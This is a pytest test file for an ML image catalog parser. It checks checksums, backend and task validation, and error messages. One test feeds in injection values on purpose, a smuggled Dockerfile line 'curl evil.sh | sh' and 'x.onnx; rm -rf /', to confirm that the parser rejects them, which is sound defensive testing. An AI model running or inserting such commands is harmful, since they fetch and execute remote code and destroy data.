from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from mlbox.catalog import load_catalog, parse_catalog
from mlbox.errors import CatalogError
from tests.conftest import REPO


def repo_catalog_data() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((REPO / "images.yaml").read_text())
    return data


def test_repo_catalog_is_valid_and_frozen() -> None:
    catalog = load_catalog(REPO / "images.yaml")
    resnet = catalog.models["resnet50"]
    assert resnet.default_variant == "onnx-opset11-fp32"
    published = resnet.variants["onnx-opset11-fp32"]
    assert published.md5 == "f6a4da60cd5f084d97efc2c1ddb10beb"
    assert published.url == "https://zenodo.org/record/4735647/files/resnet50_v1.onnx"
    assert resnet.variants["synthetic"].is_synthetic
    with pytest.raises(ValueError, match="frozen"):
        resnet.default_variant = "synthetic"


def test_unknown_key_is_refused_with_its_path_and_a_suggestion() -> None:
    data = repo_catalog_data()
    data["models"]["resnet50"]["variants"]["synthetic"]["fiel"] = "x.onnx"
    with pytest.raises(CatalogError) as err:
        parse_catalog(yaml.safe_dump(data))
    text = str(err.value)
    assert "models.resnet50.variants.synthetic.fiel: unknown key; did you mean 'file'?" in text


def test_bad_checksum_value_names_the_field() -> None:
    data = repo_catalog_data()
    data["models"]["resnet50"]["variants"]["onnx-opset11-fp32"]["md5"] = "not-a-md5"
    with pytest.raises(CatalogError, match=r"models\.resnet50\.variants\.onnx-opset11-fp32\.md5"):
        parse_catalog(yaml.safe_dump(data))


@pytest.mark.parametrize(
    ("where", "value"),
    [
        (("defaults", "base_image"), "debian\nRUN curl evil.sh | sh"),
        (("models", "resnet50", "variants", "synthetic", "file"), "x.onnx; rm -rf /"),
        (("models", "resnet50", "description"), 'a"b'),
    ],
)
def test_values_that_could_inject_dockerfile_lines_are_refused(where: tuple[str, ...], value: str) -> None:
    data = repo_catalog_data()
    node = data
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = value
    with pytest.raises(CatalogError, match=".".join(where)):
        parse_catalog(yaml.safe_dump(data))


def test_default_variant_must_exist() -> None:
    data = repo_catalog_data()
    data["models"]["resnet50"]["default_variant"] = "nope"
    with pytest.raises(CatalogError, match="default_variant 'nope' is not one of its variants"):
        parse_catalog(yaml.safe_dump(data))


def test_downloaded_model_needs_a_checksum() -> None:
    data = repo_catalog_data()
    del data["models"]["resnet50"]["variants"]["onnx-opset11-fp32"]["md5"]
    with pytest.raises(CatalogError, match="needs 'md5' or 'sha256'"):
        parse_catalog(yaml.safe_dump(data))


def test_missing_file_and_bad_yaml(tmp_path: Path) -> None:
    with pytest.raises(CatalogError, match="catalog not found"):
        load_catalog(tmp_path / "nope.yaml")
    bad = tmp_path / "bad.yaml"
    bad.write_text("models: [\n")
    with pytest.raises(CatalogError, match="not valid YAML"):
        load_catalog(bad)


def test_a_variant_on_an_unknown_backend_names_the_path_and_the_closest() -> None:
    data = yaml.safe_load((REPO / "images.yaml").read_text())
    data["models"]["resnet50"]["variants"]["synthetic"]["backend"] = "onnxruntim"
    with pytest.raises(
        CatalogError, match=r"models\.resnet50\.variants\.synthetic\.backend: 'onnxruntim'.*did you mean 'onnxruntime'"
    ):
        parse_catalog(yaml.safe_dump(data))


def test_unknown_checksum_must_be_said_and_cannot_contradict_a_digest() -> None:
    data = yaml.safe_load((REPO / "images.yaml").read_text())
    variant = data["models"]["resnet50"]["variants"]["tflite-noargmax"]
    del variant["md5"]
    with pytest.raises(CatalogError, match="needs 'md5' or 'sha256'"):
        parse_catalog(yaml.safe_dump(data))
    variant["checksum"] = "unknown"
    parse_catalog(yaml.safe_dump(data))  # said out loud: accepted (mlbox then downloads nothing)
    variant["md5"] = "0" * 32
    with pytest.raises(CatalogError, match="contradicts"):
        parse_catalog(yaml.safe_dump(data))


def test_the_tflite_files_carry_mlcommons_md5s() -> None:
    """The md5s of MLCommons' model script (get-ml-model-resnet50): the argmax file's is
    that of its gzip download."""
    variants = load_catalog(REPO / "images.yaml").models["resnet50"].variants
    argmax, noargmax = variants["tflite-fp32"], variants["tflite-noargmax"]
    assert (argmax.md5, argmax.compression, argmax.checksum) == ("92b5ae497e0de5c2d487507953b6e5cc", "gzip", None)
    assert (noargmax.md5, noargmax.compression, noargmax.checksum) == ("53e81f9f9b459ecfb6d64add3da91564", None, None)


def test_a_backend_with_its_own_cuda_route_must_bundle_its_cuda() -> None:
    data = repo_catalog_data()
    data["backends"]["tensorflow"]["bundles_cuda"] = False
    with pytest.raises(CatalogError, match=r"backends\.tensorflow: cuda_from: pip says the backend's own wheels"):
        parse_catalog(yaml.safe_dump(data))


def test_buildable_backends_and_formats_are_the_harnesss() -> None:
    """The catalog says which backends can be built (no `missing`); the harness's registry
    must have exactly those, and load every format their variants name."""
    from mlbox_bench.backends import BACKENDS, FORMATS

    catalog = load_catalog(REPO / "images.yaml")
    buildable = {name for name, backend in catalog.backends.items() if backend.missing is None}
    assert buildable == set(BACKENDS)
    for model in catalog.models.values():
        for name, variant in model.variants.items():
            if variant.backend in buildable:
                assert FORMATS[variant.model_format][0] == variant.backend, name


def test_a_backend_without_a_template_partial_is_refused_when_the_catalog_loads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from mlbox.cli import main

    data = repo_catalog_data()
    data["backends"]["tensorrt"] = {"description": "x", "package": "tensorrt", "packages": {"cuda": ["tensorrt==10.0"]}}
    path = tmp_path / "images.yaml"
    path.write_text(yaml.safe_dump(data))
    assert main(["--catalog", str(path), "list", "--json"]) == 10
    err = capsys.readouterr().err
    assert "backends.tensorrt: mlbox has no template for it (partials/backend-tensorrt.j2)" in err
    assert "backend-onnxruntime" in err  # the hint lists what exists


def test_a_pytorch_variant_must_name_its_format() -> None:
    data = repo_catalog_data()
    del data["models"]["resnet50"]["variants"]["pytorch-fp32"]["format"]
    with pytest.raises(CatalogError, match=r"models\.resnet50\.variants\.pytorch-fp32: a pytorch model needs 'format'"):
        parse_catalog(yaml.safe_dump(data))


def test_a_catalog_with_three_problems_reports_all_three_at_once() -> None:
    """A misspelt key, a value outside its grammar and a name that resolves to nothing, in
    three parts of the file: one run names all three (the reference check does not wait for
    the schema's problems to be fixed first)."""
    data = repo_catalog_data()
    variants = data["models"]["resnet50"]["variants"]
    variants["synthetic"]["descriptoin"] = variants["synthetic"].pop("description")
    data["defaults"]["registry"] = "My Registry"
    variants["pytorch-fp32"]["backend"] = "pytorhc"
    with pytest.raises(CatalogError) as err:
        parse_catalog(yaml.safe_dump(data), source="images.yaml")
    text = str(err.value)
    assert text.startswith("images.yaml has 4 problems:")  # the misspelling is a missing key too
    assert "models.resnet50.variants.synthetic.descriptoin: unknown key; did you mean 'description'?" in text
    assert "models.resnet50.variants.synthetic.description: required key is missing" in text
    assert "defaults.registry: 'My Registry' is not a repository path" in text
    assert "models.resnet50.variants.pytorch-fp32.backend: 'pytorhc' is not one of" in text
    assert "did you mean 'pytorch'?" in text


def test_every_model_names_a_task_mlbox_bench_runs() -> None:
    from mlbox.catalog import TASKS
    from mlbox_bench.tasks import TASKS as HARNESS_TASKS

    assert TASKS == HARNESS_TASKS  # the image's MLBOX_DEFAULT_TASK must be one its harness knows
    models = load_catalog(REPO / "images.yaml").models
    assert {name: m.task for name, m in models.items()} == {"resnet50": "classification", "retinanet": "detection"}
    data = repo_catalog_data()
    del data["models"]["retinanet"]["task"]
    data["models"]["resnet50"]["task"] = "segmentation"
    with pytest.raises(CatalogError) as err:
        parse_catalog(yaml.safe_dump(data))
    text = str(err.value)
    assert "models.retinanet.task: required key is missing" in text
    assert (
        "models.resnet50.task: 'segmentation' is not a task mlbox-bench runs: one of classification, detection" in text
    )


def test_the_task_reaches_the_image_as_its_harness_default_and_a_label() -> None:
    from mlbox.plan import image_defaults, labels_for, select

    catalog = load_catalog(REPO / "images.yaml")
    spec = select(catalog, model="retinanet", device="cpu", variant="synthetic")
    assert ("task", "detection") in image_defaults(spec)
    assert ("mlbox.model.task", "detection") in labels_for(spec, "0" * 64)
    resnet = select(catalog, model="resnet50", device="cpu")
    assert ("task", "classification") in image_defaults(resnet)


def test_retinanet_has_a_synthetic_variant_and_images_can_score_detection() -> None:
    catalog = load_catalog(REPO / "images.yaml")
    variant = catalog.models["retinanet"].variants["synthetic"]
    assert variant.synthetic is not None
    assert (variant.synthetic.generator, variant.synthetic.seed) == ("retinanet", 0)
    assert (variant.framework, variant.precision, variant.backend) == ("onnx", "fp32", "onnxruntime")
    assert "SYNTHETIC" in variant.description
    # MLCommons' accuracy-openimages.py scores with pycocotools' COCOeval; every image's
    # wheelhouse has its wheel (cp311 and abi3 cp312 manylinux_2_17).
    assert "pycocotools==2.0.11" in catalog.defaults.harness_packages
